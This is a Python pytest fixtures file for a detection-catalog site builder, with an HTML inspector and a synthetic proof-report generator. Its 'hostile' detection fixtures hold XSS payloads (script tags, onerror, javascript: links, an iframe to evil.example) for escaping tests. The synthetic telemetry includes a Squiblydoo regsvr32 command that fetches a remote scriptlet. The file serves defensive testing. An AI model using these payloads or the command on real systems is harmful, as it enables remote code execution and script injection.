"""Fixtures for the site tests: the CMSTP site built once per session, hostile detections, an HTML inspector."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

from assay.catalog.loader import load_catalog, load_detection
from assay.site.builder import SiteBuild, build_site
from assay.verify.report import (
    ColumnCheck,
    DetectionReport,
    EvidenceRow,
    FormResult,
    ProofReport,
    RunInfo,
    ScenarioResult,
)
from tests.conftest import DETECTIONS

CMSTP_FOLDER = DETECTIONS / "T1218.003-cmstp"
CMSTP_ID = "5c191f9c-ff71-48e7-bebb-1f04e3d6e3f8"
CMSTP_SLUG = "t1218.003-cmstp"
BUILD_TIME = dt.datetime(2026, 11, 28, 10, 0, tzinfo=dt.UTC)


@dataclass
class ParsedPage:
    """What the tests look at in a page: ids, links, resources, text, and elements by tag."""

    ids: set[str] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    resources: list[tuple[str, str]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    title: str = ""
    tags: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    @property
    def all_text(self) -> str:
        return " ".join("".join(self.text).split())


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = ParsedPage()
        self._in_title = False
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.page.tags.append((tag, values))
        if "id" in values:
            self.page.ids.add(values["id"])
        if tag == "a" and "href" in values:
            self.page.links.append(values["href"])
        for attribute in ("src", "href"):
            if attribute in values and tag in ("script", "link", "img", "iframe", "source", "video", "audio"):
                self.page.resources.append((tag, values[attribute]))
        if tag == "title":
            self._in_title = True
        if tag in ("script", "style"):
            self._skip += 1

    def handle_endtag(self, tag: str) -> None:
        if tag == "title":
            self._in_title = False
        if tag in ("script", "style"):
            self._skip -= 1

    def handle_data(self, data: str) -> None:
        if self._in_title:
            self.page.title += data
        if not self._skip:
            self.page.text.append(data)


def parse_page(path: Path) -> ParsedPage:
    collector = _Collector()
    collector.feed(path.read_text(encoding="utf-8"))
    collector.close()
    return collector.page


@pytest.fixture(scope="session")
def cmstp_site(tmp_path_factory: pytest.TempPathFactory) -> SiteBuild:
    """The CMSTP detection's site, built once without a proof report (every result 'not yet run'). A copy of the
    one folder, so page counts and index rows do not move as the catalog grows."""
    root = tmp_path_factory.mktemp("cmstp-catalog")
    shutil.copytree(CMSTP_FOLDER, root / CMSTP_FOLDER.name)
    out = tmp_path_factory.mktemp("site") / "public"
    return build_site(load_catalog(root), out, now=BUILD_TIME)


HOSTILE_TITLE = 'Regsvr32 <script>alert("title")</script> Squiblydoo <img src=x onerror=alert(1)>'
HOSTILE_DESCRIPTION = (
    "Adversaries may abuse Regsvr32.exe to proxy execution of malicious code </p><script>document.title='owned'"
    "</script><a href=\"javascript:alert(2)\">click</a> & load scrobj.dll with a remote .sct."
)

HOSTILE_DETECTION_YML = f"""\
id: 0b7d1f0e-3c1a-4f43-9d55-2f8e6a9c4b21
title: {json.dumps(HOSTILE_TITLE)}
description: {json.dumps(HOSTILE_DESCRIPTION)}
technique: T1218.010
severity: critical
confidence: medium
status: experimental
data_sources:
  - "Process: Process Creation <b>bold</b>"
required_tables:
  - DeviceProcessEvents
explanation: "Flags regsvr32.exe /i:http with scrobj.dll <iframe src=//evil.example></iframe>"
false_positives:
  - "Software installers registering COM servers <style>body{{display:none}}</style>"
tuning: "Exclude signed installers by InitiatingProcessFolderPath, never by name."
response:
  - title: "Isolate <svg onload=alert(3)>"
    action: "Isolate the device in Defender for Endpoint and collect the .sct file."
    phase: containment
investigation: "Check the URL passed to /i: and the child processes of regsvr32.exe </div></main>"
hunting:
  - title: "Regsvr32 network connections <script>"
    purpose: "Find regsvr32.exe talking to the internet."
    query: |-
      DeviceNetworkEvents
      | where InitiatingProcessFileName =~ "regsvr32.exe" and RemoteUrl has "</script><script>alert(4)</script>"
    tables: [DeviceNetworkEvents]
references:
  - https://attack.mitre.org/techniques/T1218/010/
related:
  - {CMSTP_ID}
  - 9f1c7a52-41d4-4be8-9a1e-0c2d5f6b7e80
author: "Red <Team> & Co"
created: 2026-11-01
modified: 2026-11-02
"""

HOSTILE_KQL = """\
DeviceProcessEvents
| where FileName =~ "regsvr32.exe"
| where ProcessCommandLine has_all ("/i:http", "scrobj.dll") or ProcessCommandLine has "<script>alert(5)</script>"
"""

HOSTILE_SIGMA = """\
title: Regsvr32 Squiblydoo <script>alert(6)</script>
id: 7d2f4b1a-6e3c-4b8d-9a0f-1c2e3d4f5a6b
status: experimental
description: Regsvr32 loading a remote scriptlet </textarea><script>alert(7)</script>
author: Red <Team>
date: 2026-11-01
tags:
    - attack.defense-evasion
    - attack.t1218.010
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\regsvr32.exe'
        CommandLine|contains|all:
            - '/i:http'
            - 'scrobj.dll'
    condition: selection
level: critical
"""

HOSTILE_TESTS = """\
scenarios:
  - id: squiblydoo-remote-sct
    title: "Squiblydoo <script>alert(8)</script> from Word"
    kind: attack
    provenance:
      own: "Written to check escaping: <b>not bold</b>"
    expected:
      sigma: fires
      kql: fires
    expected_telemetry:
      - "Sysmon EID 1 regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll <script>"
    activity:
      host:
        name: WS-FIN-0211
        domain: corp.contoso.com
      user:
        domain: CORP
        name: j.doe
        sid: S-1-5-21-3623811015-3361044348-30300820-1013
      start: 2026-11-01T08:30:00Z
      processes:
        - id: regsvr32
          image: C:\\Windows\\System32\\regsvr32.exe
          command_line: regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll
          parent_image: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE
          parent_command_line: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\invoice.docm"'
  - id: installer-registers-com-server
    title: Installer registering a local COM server
    kind: benign
    provenance:
      false_positive:
        index: 1
    expected:
      sigma: does-not-fire
      kql: does-not-fire
    activity:
      host:
        name: WS-FIN-0211
      user:
        domain: CORP
        name: j.doe
        sid: S-1-5-21-3623811015-3361044348-30300820-1013
      start: 2026-11-01T09:00:00Z
      processes:
        - id: regsvr32
          image: C:\\Windows\\System32\\regsvr32.exe
          command_line: regsvr32.exe /s "C:\\Program Files\\Contoso\\Viewer\\viewer.dll"
          parent_image: C:\\Windows\\System32\\msiexec.exe
          parent_command_line: C:\\Windows\\system32\\msiexec.exe /V
"""


def write_hostile_detection(root: Path, folder_name: str = "T1218.010-regsvr32") -> Path:
    """A detection whose texts are full of HTML and script, in ``root/folder_name``."""
    folder = root / folder_name
    folder.mkdir(parents=True)
    (folder / "detection.yml").write_text(HOSTILE_DETECTION_YML, encoding="utf-8")
    (folder / "sentinel.kql").write_text(HOSTILE_KQL, encoding="utf-8")
    (folder / "rule.sigma.yml").write_text(HOSTILE_SIGMA, encoding="utf-8")
    (folder / "tests.yml").write_text(HOSTILE_TESTS, encoding="utf-8")
    return folder


def cmstp_catalog(root: Path) -> Path:
    """A catalog folder holding only a copy of the CMSTP detection (the site tests pin its pages and counts)."""
    copy_cmstp(root)
    return root


def copy_cmstp(root: Path, folder_name: str = "T1218.003-cmstp") -> Path:
    target = root / folder_name
    shutil.copytree(CMSTP_FOLDER, target)
    return target


RUN_STARTED = dt.datetime(2026, 11, 28, 9, 41, 7, tzinfo=dt.UTC)


def make_report(folder: Path = CMSTP_FOLDER, *, failing_kql: str | None = None) -> ProofReport:
    """A proof report for a catalog detection shaped like ``assay test`` writes it: every form passes on every
    synthesized scenario, recordings are skipped, and ``failing_kql`` (a scenario id) makes the native KQL miss.

    The site tests need a report with a known failure to check how one is shown; the runner's own tests prove
    the runner. Evidence rows carry the scenario's own process facts.
    """
    loaded = load_detection(folder)
    report = ProofReport(run=RunInfo(started=RUN_STARTED, finished=RUN_STARTED + dt.timedelta(seconds=14),
                                     assay_version="0.1.0", forms=["sigma", "kql", "converted"],
                                     paths=[str(folder)]))
    forms = ["sigma", "kql", "converted:microsoft-xdr"]
    detection = DetectionReport(id=loaded.id, title=loaded.detection.title, technique=loaded.detection.technique,
                                forms=forms, path=str(folder))
    for scenario in loaded.scenarios:
        result = ScenarioResult(id=scenario.id, title=scenario.title, kind=scenario.kind,
                                provenance=scenario.provenance.kind)
        if scenario.activity is None:
            for form in forms:
                result.results.append(FormResult(
                    form=form, status="skip", telemetry="recording", expected=scenario.expected.outcome(
                        "converted" if form.startswith("converted") else form),  # type: ignore[arg-type]
                    reason="recording not found under the shared data folder"))
            detection.scenarios.append(result)
            continue
        process = next((p for p in scenario.activity.processes if p.file_name.lower() == "cmstp.exe"),
                       scenario.activity.processes[-1])
        parent = scenario.activity.process(process.parent) if process.parent else None
        parent_name = parent.file_name if parent else (process.parent_image or "").split("\\")[-1]
        for form, route, table, telemetry in (("sigma", "process_creation:sysmon", "RawEvents", "sysmon"),
                                              ("kql", None, "DeviceProcessEvents", "defender"),
                                              ("converted:microsoft-xdr", None, "DeviceProcessEvents", "defender")):
            base = "converted" if form.startswith("converted") else form
            expected = scenario.expected.outcome(base)  # type: ignore[arg-type]
            verdict = expected
            if form == "kql" and scenario.id == failing_kql:
                verdict = "does-not-fire" if expected == "fires" else "fires"
            fired = verdict == "fires"
            values: dict[str, str | int | float | bool | None] = (
                {"Image": process.image, "CommandLine": process.command_line,
                 "ParentImage": parent.image if parent else process.parent_image}
                if form == "sigma" else
                {"Timestamp": scenario.activity.start.isoformat(), "DeviceName": scenario.activity.host.fqdn,
                 "AccountName": scenario.activity.user.name, "ProcessCommandLine": process.command_line,
                 "InitiatingProcessFileName": parent_name})
            checks = [ColumnCheck(column=name, expected=value, actual=value, ok=True)
                      for name, value in scenario.expected.columns.items()] if form == "kql" and fired else []
            result.results.append(FormResult(
                form=form, route=route, table=table, telemetry=telemetry,
                status="pass" if verdict == expected else "fail", verdict=verdict, expected=expected,
                reason="fired as expected" if verdict == expected == "fires" else (
                    "stayed quiet as expected" if verdict == expected else
                    f"expected {expected}, got {verdict}"),
                row_count=1 if fired else 0, column_checks=checks,
                evidence=[EvidenceRow(values=values, source=f"{telemetry}.jsonl#1")] if fired else []))
        detection.scenarios.append(result)
    report.detections.append(detection)
    report.summarize()
    return report
